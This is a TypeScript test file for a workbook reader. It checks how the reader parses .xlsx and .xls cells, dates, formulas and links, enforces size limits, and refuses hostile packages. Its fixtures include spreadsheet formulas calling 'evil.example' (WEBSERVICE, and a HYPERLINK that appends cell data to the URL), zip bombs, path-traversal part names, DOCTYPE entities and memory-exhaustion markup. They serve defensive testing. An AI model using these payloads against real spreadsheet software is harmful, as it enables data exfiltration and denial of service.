import { randomBytes } from 'node:crypto'
import { utils, write as writeBook } from '@e965/xlsx'
import { describe, expect, test } from 'vitest'
import { parseCellDate, parseCellPosition, formatCell, toColumnLetters, formatFigureCell, linkText } from './cells.ts'
import type { SheetRow } from './cells.ts'
import { checkWorkbook, isStoredWorkbookName } from './check.ts'
import { normalizeHeader, readHeader } from './header.ts'
import { limits } from './limits.ts'
import type { WorkbookLimits } from './limits.ts'
import { WorkbookProblem } from './problem.ts'
import { openSheets, openWorkbook } from './read-workbook.ts'
import { buildFixtureParts, buildTextRow, buildFixtureWorkbook, buildZip } from './zip-fixture.ts'

async function rowsOf(bytes: Uint8Array, changed: Partial<WorkbookLimits> = {}): Promise<SheetRow[]> {
  const sheets = await openSheets(bytes, { ...limits, ...changed })
  const sheet = sheets.find(({ isHidden }) => !isHidden)
  if (sheet === undefined) throw new Error('no visible sheet')
  const rows: SheetRow[] = []
  for await (const { row, cells, links } of (await sheet.open()).rows)
    if (cells.some((cell) => cell !== null)) rows.push({ row, cells, ...(links && { links }) })
  return rows
}

async function readAll(bytes: Uint8Array, changed: Partial<WorkbookLimits> = {}): Promise<SheetRow[]> {
  const rows: SheetRow[] = []
  for await (const row of (await openWorkbook(bytes, { limits: { ...limits, ...changed } })).rows) rows.push(row)
  return rows
}
async function problemOf(bytes: Uint8Array, changed: Partial<WorkbookLimits> = {}): Promise<WorkbookProblem> {
  const outcome = await readAll(bytes, changed).catch((error: unknown) => error)
  if (!(outcome instanceof WorkbookProblem)) throw new Error(`Not refused: ${JSON.stringify(outcome)}`)
  return outcome
}

describe('reading an .xlsx', () => {
  test('returns exact text, whether inline, shared or rich, with line breaks and any characters', async () => {
    const [first] = await rowsOf(
      buildFixtureWorkbook({
        sharedTexts:
          '<si><t xml:space="preserve"> H₂O &amp; v⃗ \nm/s² </t></si><si><r><rPr><b/></rPr><t>bold</t></r><r><t xml:space="preserve"> and 𝛼</t></r><rPh sb="0" eb="1"><t>no</t></rPh></si>',
        rows: '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c><c r="C1" t="inlineStr"><is><t>00100001</t></is></c><c r="D1" t="inlineStr"><is><r><t>x</t></r><r><t>²</t></r></is></c><c r="E1" t="inlineStr"><is><t>a_x000D_b_x005F_x0041_</t></is></c><c r="F1" t="str"><v>&#x1F600;</v></c></row>',
      }),
    )
    expect(first?.cells).toEqual([' H₂O & v⃗ \nm/s² ', 'bold and 𝛼', '00100001', 'x²', 'a\rb_x0041_', '😀'])
  })

  test('returns numbers, booleans and errors by type and blanks as null', async () => {
    const [first] = await rowsOf(
      buildFixtureWorkbook({
        rows: '<row r="3"><c r="A3"><v>30010001</v></c><c r="B3"><v>1.5E-3</v></c><c r="C3" t="b"><v>1</v></c><c r="D3" t="e"><v>#N/A</v></c><c r="E3" t="inlineStr"><is><t> \n </t></is></c><c r="F3" s="0"/><c r="G3"><v>1000000000000000</v></c><c r="H3"/><c r="I3" t="inlineStr"><is><t></t></is></c></row>',
      }),
    )
    expect(first).toEqual({ row: 3, cells: [30010001, 0.0015, true, { error: '#N/A' }, null, null, 1e15] })
    expect(first?.cells.map(formatCell)).toEqual(['30010001', '0.0015', 'TRUE', '#N/A', '', '', '1E+15'])
    expect(first?.cells.map(formatFigureCell)).toEqual(['30010001', '0.0015', 'TRUE', '#N/A', '', '', '1000000000000000'])
  })

  test('prints figures in full, without an exponent and with the 15 digits of Excel', () => {
    expect([1e21, -5, 0.1 + 0.2, 1.1000000000000001, 123456789012345].map(formatFigureCell)).toEqual([
      '1000000000000000000000',
      '-5',
      '0.3',
      '1.1',
      '123456789012345',
    ])
  })

  test.each([
    [false, 46041.4375, '19/01/2026 10:30 am'],
    [true, 44579.4375, '19/01/2026 10:30 am'],
    [false, 46041.438194444447, '19/01/2026 10:31 am'],
    [false, 46041.4381944444, '19/01/2026 10:31 am'],
    [false, 61, '01/03/1900 12:00 am'],
    [false, 1, '01/01/1900 12:00 am'],
    [true, 0, '01/01/1904 12:00 am'],
  ])('returns a date as the instant of its wall time in Asia/Kolkata (1904: %s, %s)', async (date1904, serial, shown) => {
    const [first] = await rowsOf(
      buildFixtureWorkbook({
        date1904,
        formats: ['dd/mm/yyyy hh:mm'],
        rows: `<row r="1"><c r="A1" s="1"><v>${serial}</v></c></row>`,
      }),
    )
    const cell = first?.cells[0]
    expect(formatFigureCell(cell)).toBe(shown)
    expect(Math.abs((parseCellDate(cell)?.getTime() ?? Number.NaN) % 1000)).toBe(0)
  })

  test('returns dates only for formats that show a day', async () => {
    const formats = ['0.00 "days"', '[Red]#,##0', '#,##0.00 [$USD]', '0.0E+00', 'd-mmm', '[h]:mm', 'yyyy']
    const rows = `<row r="1">${formats.map((_, index) => `<c r="${toColumnLetters(index)}1" s="${index + 1}"><v>40000</v></c>`).join('')}</row>`
    const [first] = await rowsOf(buildFixtureWorkbook({ formats, rows }))
    expect(first?.cells.map((cell) => parseCellDate(cell) !== undefined)).toEqual([false, false, false, false, true, false, true])
  })

  test('returns a date beyond the calendar as a number', async () => {
    const [first] = await rowsOf(
      buildFixtureWorkbook({ formats: ['yyyy'], rows: '<row r="1"><c r="A1" s="1"><v>1e15</v></c></row>' }),
    )
    expect(first?.cells).toEqual([{ value: 1e15, format: 'yyyy', shown: '1E+15' }])
    expect(parseCellDate(first?.cells[0])).toBeUndefined()
  })

  test.each(['', 'x'])('returns stored results of formulas without evaluating them (prefix "%s")', async (prefix) => {
    const of = prefix === '' ? '' : 'x:'
    const cell = (ref: string, content: string, type = ''): string => `<${of}c r="${ref}"${type}>${content}</${of}c>`
    const [first] = await rowsOf(
      buildFixtureWorkbook({
        ...(prefix === '' ? {} : { prefix }),
        rows: `<${of}row r="1">${[
          cell('A1', `<${of}f>1+1</${of}f><${of}v>2</${of}v>`),
          cell('B1', `<${of}f>"a"&amp;A1</${of}f>`),
          cell('C1', `<${of}f>WEBSERVICE("https://evil.example/")</${of}f><${of}v></${of}v>`, ' t="str"'),
          cell('D1', `<${of}f t="shared" si="0"/><${of}v>7</${of}v>`),
          cell('E1', `<${of}is><${of}t>=1+1</${of}t></${of}is>`, ' t="inlineStr"'),
          cell(
            'F1',
            `<${of}f>HYPERLINK("https://content.example/a?b=1&amp;c=2","Open")</${of}f><${of}v>Open</${of}v>`,
            ' t="str"',
          ),
          cell('G1', `<${of}f>HYPERLINK("https://evil.example/?"&amp;A1,"Open")</${of}f><${of}v>Open</${of}v>`, ' t="str"'),
        ].join('')}</${of}row>`,
      }),
    )
    expect(first?.cells).toEqual([2, { error: '', formula: '="a"&A1' }, null, 7, '=1+1', 'Open', 'Open'])
    expect([...(first?.links ?? [])]).toEqual([[5, 'https://content.example/a?b=1&c=2']])
  })

  test('finds formulas and links wherever a long sheet is split into chunks', async () => {
    const count = 30_000
    const text = 'the same long words of a question, again and again, '
    const rows = Array.from({ length: count }, (_, index) => {
      const row = index + 1
      return `<row r="${row}"><c r="A${row}" t="inlineStr"><is><t>${text}${index}</t></is></c><c r="B${row}"><f>ROW()+${index}</f></c><c r="C${row}" t="inlineStr"><is><t>Open</t></is></c></row>`
    }).join('')
    const after = `<hyperlinks>${Array.from({ length: count }, (_, index) => `<hyperlink ref="C${index + 1}" r:id="rId${index + 1}"/>`).join('')}</hyperlinks>`
    const links = Array.from({ length: count }, (_, index) => `https://content.example/${index}`)
    const found = await rowsOf(buildFixtureWorkbook({ rows, after, links }))
    expect(found).toHaveLength(count)
    const wrong = found.filter(
      ({ row, cells, links: ofRow }) =>
        formatCell(cells[1]) !== `=ROW()+${row - 1}` || ofRow?.get(2) !== `https://content.example/${row - 1}`,
    )
    expect(wrong).toEqual([])
  })

  test.each(['', 'x:'])('finds shared texts wherever a long sheet and its table are split (prefix "%s")', async (of) => {
    const count = 40_000
    const textAt = (index: number): string => `№ ${index} ${'é⃗'.repeat(index % 40)}\n&<`
    const escaped = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')
    const sharedTexts = Array.from(
      { length: count },
      (_, index) => `<si><t xml:space="preserve">${escaped(textAt(index))}</t></si>`,
    ).join('')
    const rows = Array.from({ length: count }, (_, index) => {
      const row = index + 1
      const pointer = index % 2 === 0 ? `r="A${row}" s="0" t="s"` : `t='s' r='A${row}'`
      return `<${of}row r="${row}"><${of}c ${pointer}><${of}v>${index}</${of}v></${of}c><${of}c r="B${row}"><${of}v>${index}</${of}v></${of}c><${of}c r="C${row}" t="str"><${of}v>${index}</${of}v></${of}c></${of}row>`
    }).join('')
    const found = await rowsOf(buildFixtureWorkbook({ rows, sharedTexts, ...(of === '' ? {} : { prefix: 'x' }) }))
    expect(found).toHaveLength(count)
    expect(
      found.filter(({ cells }, index) => cells[0] !== textAt(index) || cells[1] !== index || cells[2] !== String(index)),
    ).toEqual([])
  })

  test('reaches the last row, whatever its last cell looks like', async () => {
    for (const cell of [
      '<c r="B2" s="0"/>',
      '<c r="B2"/>',
      '<c r="B2" t="s"><v>0</v></c>',
      '<c r="B2" t="s"><v>0</v></c >',
      '',
    ]) {
      const found = await rowsOf(
        buildFixtureWorkbook({
          rows: `${buildTextRow(1, ['a'])}<row r="2"><c r="A2"><v>1</v></c>${cell}</row>`,
          sharedTexts: '<si><t>x</t></si>',
        }),
      )
      expect(found[1]).toEqual({ row: 2, cells: cell.includes('t="s"') ? [1, 'x'] : [1] })
    }
  })

  test('accepts many rows of the smallest cells that reference shared texts', async () => {
    const rows = `<row>${'<c t="s"><v>0</v></c>'.repeat(300)}</row>`.repeat(2000)
    const found = await rowsOf(buildFixtureWorkbook({ rows, sharedTexts: '<si><t>a</t></si>' }), { ratio: 10_000 })
    expect(found).toHaveLength(2000)
    expect(found.every(({ cells }) => cells.length === 300 && cells.every((cell) => cell === 'a'))).toBe(true)
  })

  test('returns shared texts in every form, and a blank for an index out of range', async () => {
    const sharedTexts = [
      '<si/>',
      '<si><t/></si>',
      '<si><!-- <t>no</t> --><t>a<![CDATA[<b>&amp;]]>c</t></si>',
      '<si><t>1\r\n2\r3_x000D_4</t></si>',
      '<si><r><rPr><b/></rPr><t>x</t></r><phoneticPr fontId="1"/><r><t>y</t></r></si>',
    ].join('\n')
    const cells = [0, 1, 2, 3, 4, 99].map((text, at) => `<c r="${toColumnLetters(at)}1" t="s"><v>${text}</v></c>`).join('')
    const [first] = await rowsOf(buildFixtureWorkbook({ sharedTexts, rows: `<row r="1">${cells}<c r="G1"><v>1</v></c></row>` }))
    expect(first?.cells).toEqual([null, null, 'a<b>&amp;c', '1\n2\n3\r4', 'xy', null, 1])
  })

  test('returns a hyperlink’s target when the text is not an address', async () => {
    const [first] = await rowsOf(
      buildFixtureWorkbook({
        rows: buildTextRow(1, ['Open', 'https://content.example/2', 'https://shown.example', 'plain', 'r1', 'r2']),
        after:
          '<hyperlinks><hyperlink ref="A1" r:id="rId1"/><hyperlink ref="B1" r:id="rId2"/><hyperlink ref="C1" r:id="rId3"/><hyperlink ref="D1" location="Sheet2!A1"/><hyperlink ref="E1:XFD1048576" r:id="rId4"/></hyperlinks>',
        links: [
          'https://content.example/1?a=1&b=2',
          'https://content.example/2',
          'https://hidden.example',
          'https://content.example/range',
        ],
      }),
    )
    if (first === undefined) throw new Error('no row')
    expect([...(first.links ?? [])]).toEqual([
      [0, 'https://content.example/1?a=1&b=2'],
      [2, 'https://hidden.example'],
      [4, 'https://content.example/range'],
      [5, 'https://content.example/range'],
    ])
    expect([0, 1, 2, 3, 4].map((column) => linkText(first, column))).toEqual([
      'https://content.example/1?a=1&b=2',
      'https://content.example/2',
      'https://shown.example',
      'plain',
      'https://content.example/range',
    ])
  })

  test('returns rows with their sheet numbers, without blank rows or rows of a huge merge', async () => {
    const rows = await readAll(
      buildFixtureWorkbook({
        rows: `${buildTextRow(1, ['a'])}<row r="2"/>${buildTextRow(4, ['', ' '])}<row r="5"><c r="A5" s="0"/></row>${buildTextRow(9, ['b'])}<row r="1048576"><c r="XFD1048576" s="0"/></row>`,
        after: '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>',
      }),
    )
    expect(rows).toEqual([{ row: 9, cells: ['b'] }])
  })

  test('chooses the first visible sheet, wherever its part is stored', async () => {
    const parts = buildFixtureParts({ rows: buildTextRow(1, ['hidden']) }).map((part) => {
      if (part.name === 'xl/workbook.xml')
        return {
          ...part,
          content: String(part.content).replace(
            '<sheet name="One" sheetId="1" r:id="rId1"/>',
            '<sheet name="Old" sheetId="1" state="veryHidden" r:id="rId1"/><sheet name="a>b" sheetId="2" r:id="rId9"/>',
          ),
        }
      if (part.name === 'xl/_rels/workbook.xml.rels')
        return {
          ...part,
          content: String(part.content).replace(
            '</Relationships>',
            '<Relationship Id="rId9" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/worksheet" Target="/xl/Sheets/Data.xml"/></Relationships>',
          ),
        }
      return part
    })
    const sheet = String(parts.find(({ name }) => name.endsWith('sheet1.xml'))?.content).replace('hidden', 'seen')
    expect(await rowsOf(buildZip([...parts, { name: 'xl/sheets/data.xml', content: sheet }]))).toEqual([
      { row: 1, cells: ['seen'] },
    ])
  })

  test('can be ended early', async () => {
    const bytes = buildFixtureWorkbook({
      rows: Array.from({ length: 20_000 }, (_, index) => buildTextRow(index + 1, ['a', 'b', 'c'])).join(''),
    })
    let seen = 0
    for await (const row of (await openWorkbook(bytes)).rows) {
      seen = row.row
      if (seen === 10) break
    }
    expect(seen).toBe(10)
  })
})

describe('an .xls', () => {
  const legacy = (date1904 = false): Uint8Array => {
    const sheet = utils.aoa_to_sheet([
      ['question_id', 'when', 'ok', 'link', 'sum', 'wrong', 'text'],
      [30010001, 46041.4375 - (date1904 ? 1462 : 0), true, 'Open', 3, null, '00100001 H₂O\nsecond'],
    ])
    sheet['!ref'] = 'A1:G5'
    sheet['B2'].z = 'dd/mm/yyyy hh:mm'
    sheet['F2'] = { t: 'e', v: 0x2a }
    sheet['D2'].l = { Target: 'https://content.example/1' }
    sheet['A5'] = { t: 's', v: 'last' }
    const book = utils.book_new()
    utils.book_append_sheet(book, sheet, 'One')
    book.Workbook = { WBProps: { date1904 } }
    return writeBook(book, { type: 'buffer', bookType: 'biff8' }) as Uint8Array
  }

  test.each([false, true])('returns the same types of cells as an .xlsx (1904: %s)', async (date1904) => {
    const rows = await rowsOf(legacy(date1904))
    expect(rows.map(({ row }) => row)).toEqual([1, 2, 5])
    const [, second] = rows
    expect(second?.cells[0]).toBe(30010001)
    expect(formatFigureCell(second?.cells[1])).toBe('19/01/2026 10:30 am')
    expect(second?.cells.slice(2)).toEqual([true, 'Open', 3, { error: '#N/A' }, '00100001 H₂O\nsecond'])
    expect([...(second?.links ?? [])]).toEqual([[3, 'https://content.example/1']])
  })

  test('is refused when it is damaged', async () => {
    expect((await problemOf(legacy().subarray(0, 600))).code).toBe('DAMAGED')
  })
})

describe('limits of a workbook', () => {
  test.each<[Partial<WorkbookLimits>, string, string, string]>([
    [{ rows: 1 }, 'TOO_MANY_ROWS', buildTextRow(1, ['a']) + buildTextRow(2, ['b']) + buildTextRow(3, ['c']), ''],
    [{ columns: 2 }, 'TOO_MANY_COLUMNS', buildTextRow(1, ['a', 'b', 'c']), 'row 1'],
    [{ cellCharacters: 4 }, 'CELL_TOO_LONG', buildTextRow(1, ['name']) + buildTextRow(4, ['four4']), 'row 4, name'],
    [{ bytes: 10 }, 'TOO_BIG', buildTextRow(1, ['name']), ''],
    [{ sheets: 0 }, 'TOO_MANY_SHEETS', buildTextRow(1, ['name']), ''],
    [{ entries: 3 }, 'UNPACKS_TOO_LARGE', buildTextRow(1, ['name']), ''],
    [{ inflatedBytes: 300 }, 'UNPACKS_TOO_LARGE', buildTextRow(1, ['name']), ''],
  ])('of %j refuse a larger workbook with %s', async (changed, code, rows, path) => {
    const problem = await problemOf(buildFixtureWorkbook({ rows }), changed)
    expect([problem.code, problem.issues[0]?.path ?? '']).toEqual([code, path])
    expect(problem.message).not.toMatch(/[{}]/)
  })

  test('allow a workbook that exactly reaches them', async () => {
    const rows = buildTextRow(1, ['a', 'b']) + buildTextRow(2, ['four', 'b'])
    expect(await readAll(buildFixtureWorkbook({ rows }), { rows: 1, columns: 2, cellCharacters: 4 })).toHaveLength(1)
  })

  /** Compresses only to half its size, so that the compression ratio is not suspicious. */
  const noise = (bytes: number): string => randomBytes(bytes / 2).toString('hex')

  test.each(['xl/workbook.xml', 'xl/_rels/workbook.xml.rels', '_rels/.rels', 'xl/styles.xml'])(
    'refuse more than 16 MB of %s, which is read as a whole',
    async (name) => {
      const parts = buildFixtureParts({ rows: buildTextRow(1, ['a']) })
      const large = parts.map((part) =>
        part.name === name ? { ...part, content: `${String(part.content)}<!--${noise(1 << 24)}-->` } : part,
      )
      expect((await problemOf(buildZip(large))).code).toBe('UNPACKS_TOO_LARGE')
    },
  )

  test('allow longer link targets in total', async () => {
    const links = Array.from({ length: 6_000 }, (_, at) => `https://content.example/${at}/${noise(3_000)}`)
    const [first] = await rowsOf(
      buildFixtureWorkbook({
        rows: buildTextRow(1, ['Open']),
        after: '<hyperlinks><hyperlink ref="A1" r:id="rId6000"/></hyperlinks>',
        links,
      }),
    )
    expect(first?.links?.get(0)).toBe(links[5_999])
  })

  test.each<[string, string, string, string?]>([
    ['empty rows', '<row/>'.repeat(3_000_000), 'DAMAGED'],
    ['empty cells in one row', `<row>${'<c/>'.repeat(5_000_000)}</row>`, 'DAMAGED'],
    ['the same cell repeated', `<row r="1">${'<c r="A1"/>'.repeat(5_000_000)}</row>`, 'TOO_MUCH_MEMORY'],
    ['rows that never end', '<row>'.repeat(5_000_000), 'DAMAGED'],
    ['blank cells far to the right', '<row><c r="XFD1048576" s="0"/></row>'.repeat(5_000), 'NO_HEADER'],
    ['one row more than a sheet may have', '<row r="1048577"><c><v>1</v></c></row>', 'DAMAGED'],
    ['a row number beyond every limit', '<row r="99999999999"><c r="A99999999999"><v>1</v></c></row>', 'DAMAGED'],
    ['a column beyond every limit', '<row r="1"><c r="ZZZZZZZZ1"><v>1</v></c></row>', 'DAMAGED'],
    ['merged cells', buildTextRow(1, ['a']), 'TOO_MUCH_MEMORY', '<mergeCell ref="A1:XFD1048576"/>'.repeat(3_000_000)],
    ['links', buildTextRow(1, ['a']), 'TOO_MUCH_MEMORY', '<hyperlink ref="A1" r:id="rId1"/>'.repeat(3_000_000)],
  ])('refuse endless markup: %s', async (_, rows, code, after = '') => {
    const bytes = buildFixtureWorkbook({ rows, after, links: ['https://content.example/'] })
    expect((await problemOf(bytes, { ratio: 100_000 })).code).toBe(code)
  })

  test('count sheets that share a part as one sheet', async () => {
    const sheets = (count: number): Buffer =>
      buildZip(
        buildFixtureParts({ rows: buildTextRow(1, ['a']) }).map((part) =>
          part.name === 'xl/workbook.xml'
            ? {
                ...part,
                content: String(part.content).replace(
                  '</sheets>',
                  `${'<sheet name="x" sheetId="2" r:id="rId1"/>'.repeat(count)}</sheets>`,
                ),
              }
            : part,
        ),
      )
    expect(await rowsOf(sheets(200_000), { ratio: 100_000 })).toEqual([{ row: 1, cells: ['a'] }])
    expect((await problemOf(sheets(500_000), { ratio: 100_000 })).code).toBe('UNPACKS_TOO_LARGE')
  })

  test.each(['<!--', '<?a ', '<a '])('bound the scan of a million unclosed openings %s', async (open) => {
    for (const name of ['xl/workbook.xml', 'xl/_rels/workbook.xml.rels', 'docProps/core.xml', 'xl/sharedStrings.xml']) {
      const parts = [
        ...buildFixtureParts({ rows: buildTextRow(1, ['a']), sharedTexts: '' }),
        { name: 'docProps/core.xml', content: '' },
      ]
      const opened = parts.map((part) => (part.name === name ? { ...part, content: `${open.repeat(1_000_000)}<a/>` } : part))
      await rowsOf(buildZip(opened), { ratio: 100_000 }).catch((error: unknown) => expect(error).toBeInstanceOf(WorkbookProblem))
    }
  })

  test('bound the scan of a text that opens many comments', async () => {
    for (const open of ['<!--', '<![CDATA[', '<rPh>']) {
      const sharedTexts = `<si><t>a</t>${open.repeat(500_000)}</si>`
      const rows = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
      expect((await rowsOf(buildFixtureWorkbook({ sharedTexts, rows }), { ratio: 100_000 }))[0]?.cells).toEqual(['a'])
    }
  })

  test('refuse shared texts beyond their limit before they are unpacked', async () => {
    const bytes = buildFixtureWorkbook({
      sharedTexts: '<si><t>a</t></si>',
      rows: '<row r="1"><c r="A1" t="s"><v>0</v></c></row>',
    })
    expect((await problemOf(bytes, { sharedTextBytes: 20 })).code).toBe('TOO_MUCH_MEMORY')
  })
})

describe('a hostile or damaged package', () => {
  const plain = { rows: buildTextRow(1, ['a']) }
  const bomb = Buffer.alloc(3_000_000, 'a')

  test.each<[string, Buffer, string]>([
    ['text', Buffer.from('sr_no,question_id\n1,2\n'), 'NOT_A_WORKBOOK'],
    ['nothing', Buffer.alloc(0), 'NOT_A_WORKBOOK'],
    ['a zip archive of other files', buildZip([{ name: 'a.txt', content: 'a' }]), 'NOT_A_WORKBOOK'],
    ['a file that is cut off', buildFixtureWorkbook(plain).subarray(0, -30), 'DAMAGED'],
    ['an empty compound file', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]), 'DAMAGED'],
    [
      'a part that unpacks to far more than its size',
      buildFixtureWorkbook({ ...plain, more: [{ name: 'xl/media/a.bin', content: bomb }] }),
      'UNPACKS_TOO_LARGE',
    ],
    [
      'parts that share their data',
      buildFixtureWorkbook({ ...plain, more: [{ name: '_rels/.rels2', localName: '_rels/.rels', content: '', shareWith: 1 }] }),
      'UNSAFE',
    ],
    [
      'the same part twice',
      buildFixtureWorkbook({ ...plain, more: [{ name: 'XL/workbook.xml', content: '<workbook/>' }] }),
      'UNSAFE',
    ],
    [
      'a part name that climbs out of the package',
      buildFixtureWorkbook({ ...plain, more: [{ name: 'xl/../../a.txt', content: 'a' }] }),
      'UNSAFE',
    ],
    ['an absolute part name', buildFixtureWorkbook({ ...plain, more: [{ name: '/tmp/a.txt', content: 'a' }] }), 'UNSAFE'],
    ['a part name with a drive letter', buildFixtureWorkbook({ ...plain, more: [{ name: 'C:a.txt', content: 'a' }] }), 'UNSAFE'],
    ['a part name with a backslash', buildFixtureWorkbook({ ...plain, more: [{ name: '..\\a.txt', content: 'a' }] }), 'UNSAFE'],
    [
      'two different names of one part',
      buildFixtureWorkbook({ ...plain, more: [{ name: 'a.txt', localName: 'b.txt', content: 'a' }] }),
      'UNSAFE',
    ],
    [
      'an encrypted part',
      buildFixtureWorkbook({ ...plain, more: [{ name: 'a.txt', content: 'a', flags: 1 }] }),
      'PASSWORD_PROTECTED',
    ],
    ['a document type', buildFixtureWorkbook({ ...plain, prolog: '<!DOCTYPE worksheet [<!ENTITY a "b">]>' }), 'DOCTYPE'],
    [
      'a document type behind a comment',
      buildFixtureWorkbook({ ...plain, prolog: `<!-- <a> ${'x'.repeat(5000)} --><!DOCTYPE worksheet>` }),
      'DOCTYPE',
    ],
    [
      'a document type behind noise',
      buildFixtureWorkbook({
        ...plain,
        prolog: `<!-- <a> ${buildZip(buildFixtureParts(plain)).toString('hex').repeat(4)} --><!DOCTYPE a>`,
      }),
      'DOCTYPE',
    ],
    [
      'a document type in another part',
      buildFixtureWorkbook({ ...plain, more: [{ name: 'docProps/core.xml', content: '<!DOCTYPE a><a/>' }] }),
      'DOCTYPE',
    ],
    [
      'a part in UTF-16',
      buildFixtureWorkbook({
        ...plain,
        more: [{ name: 'docProps/core.xml', content: Buffer.from('<!DOCTYPE a><a/>', 'utf16le') }],
      }),
      'UNSAFE',
    ],
    [
      'a wrong checksum',
      buildZip(buildFixtureParts(plain).map((part) => (part.name.endsWith('sheet1.xml') ? { ...part, crc: 1 } : part))),
      'DAMAGED',
    ],
    [
      'a false size',
      buildZip(buildFixtureParts(plain).map((part) => (part.name.endsWith('sheet1.xml') ? { ...part, size: 40 } : part))),
      'DAMAGED',
    ],
    [
      'a sheet that breaks off',
      buildZip(
        buildFixtureParts(plain).map((part) =>
          part.name.endsWith('sheet1.xml') ? { ...part, content: String(part.content).slice(0, -20) } : part,
        ),
      ),
      'DAMAGED',
    ],
    ['rows out of order', buildFixtureWorkbook({ rows: buildTextRow(2, ['a']) + buildTextRow(1, ['b']) }), 'DAMAGED'],
    ['a row number that is not a number', buildFixtureWorkbook({ rows: '<row r="x"><c t="b"><v>1</v></c></row>' }), 'DAMAGED'],
    ['a missing sheet', buildZip(buildFixtureParts(plain).filter(({ name }) => !name.endsWith('sheet1.xml'))), 'DAMAGED'],
  ])('with %s is refused', async (_, bytes, code) => {
    expect((await problemOf(bytes)).code).toBe(code)
  })

  test('with a false size is refused before all of it is unpacked', async () => {
    const parts = buildFixtureParts(plain).map((part) =>
      part.name.endsWith('sheet1.xml')
        ? { ...part, content: `${String(part.content)}${' '.repeat(50_000_000)}`, size: 900 }
        : part,
    )
    const bytes = buildZip(parts)
    const before = process.memoryUsage().rss
    expect((await problemOf(bytes)).code).toBe('DAMAGED')
    expect(process.memoryUsage().rss - before).toBeLessThan(40_000_000)
  })

  test('with changed bytes anywhere does not crash the check', () => {
    const bytes = buildFixtureWorkbook(plain)
    for (let at = 4; at < bytes.length; at++) {
      const changed = Buffer.from(bytes)
      changed[at] = (changed[at] ?? 0) ^ 0xff
      try {
        checkWorkbook(changed)
      } catch (error) {
        if (!(error instanceof WorkbookProblem)) throw error
      }
    }
    expect(checkWorkbook(bytes).kind).toBe('xlsx')
  })
})

describe('the header of a sheet', () => {
  test('has its names recognised by key and its spelling preserved', () => {
    expect(['Question ID', 'question_id', ' question-id\u200b', 'QUESTION\nID'].map(normalizeHeader)).toEqual(
      Array(4).fill('questionid'),
    )
    expect(readHeader([' Question ID ', null, 'page', 7])).toEqual([
      { name: 'Question ID', key: 'questionid', column: 0, letters: 'A' },
      { name: 'page', key: 'page', column: 2, letters: 'C' },
      { name: '7', key: '7', column: 3, letters: 'D' },
    ])
  })

  test('is refused with the columns of repeated names and errors', () => {
    const refused = (): unknown => readHeader(['subject', 'Chapter ', 'subject', 'chapter', { error: '#REF!' }])
    expect(refused).toThrow(WorkbookProblem)
    try {
      refused()
    } catch (error) {
      expect((error as WorkbookProblem).issues.map(({ column, message }) => [column, message])).toEqual([
        ['C', 'Columns A and C are both named “subject”. Keep one of them.'],
        ['D', 'Columns B “Chapter” and D “chapter” have the same name. Keep one of them.'],
        ['E', 'Column E has the error #REF! as its name. Enter a name.'],
      ])
    }
  })

  test('is refused after the last row when unnamed columns have values', async () => {
    const row = (at: number, cells: readonly (string | null)[]): string =>
      `<row r="${at}">${cells.map((cell, column) => (cell === null ? '' : `<c r="${toColumnLetters(column)}${at}" t="inlineStr"><is><t>${cell}</t></is></c>`)).join('')}</row>`
    const bytes = buildFixtureWorkbook({
      rows: row(1, ['a', null, 'c']) + row(2, ['1']) + row(3, ['1', 'stray', '2', 'stray']),
    })
    const { header, rows } = await openWorkbook(bytes)
    expect(header.map(({ letters }) => letters)).toEqual(['A', 'C'])
    const seen: number[] = []
    const reading = async (): Promise<void> => {
      for await (const { row: at } of rows) seen.push(at)
    }
    await expect(reading()).rejects.toMatchObject({ code: 'BAD_HEADER', issues: [{ column: 'B' }, { column: 'D' }] })
    expect(seen).toEqual([2, 3])
  })

  test('is refused when the sheet is empty or has no rows below it', async () => {
    expect((await problemOf(buildFixtureWorkbook({ rows: '' }))).code).toBe('NO_HEADER')
    expect((await problemOf(buildFixtureWorkbook({ rows: buildTextRow(1, ['a']) }))).code).toBe('NO_ROWS')
  })
})

test('toColumnLetters and parseCellPosition convert between column indexes and letters', () => {
  expect([0, 25, 26, 701, 702, 16_383].map(toColumnLetters)).toEqual(['A', 'Z', 'AA', 'ZZ', 'AAA', 'XFD'])
  expect([parseCellPosition('XFD1048576'), parseCellPosition('$B$2'), parseCellPosition('2B')]).toEqual([
    { column: 16_383, row: 1_048_576 },
    { column: 1, row: 2 },
    undefined,
  ])
})

test('isStoredWorkbookName accepts only names that end in .xlsx or .xls', () => {
  expect(['a.xlsx', 'A.XLS', 'a.xlsm', '.xlsx', 'a.xlsx.exe'].map(isStoredWorkbookName)).toEqual([
    true,
    true,
    false,
    false,
    false,
  ])
})
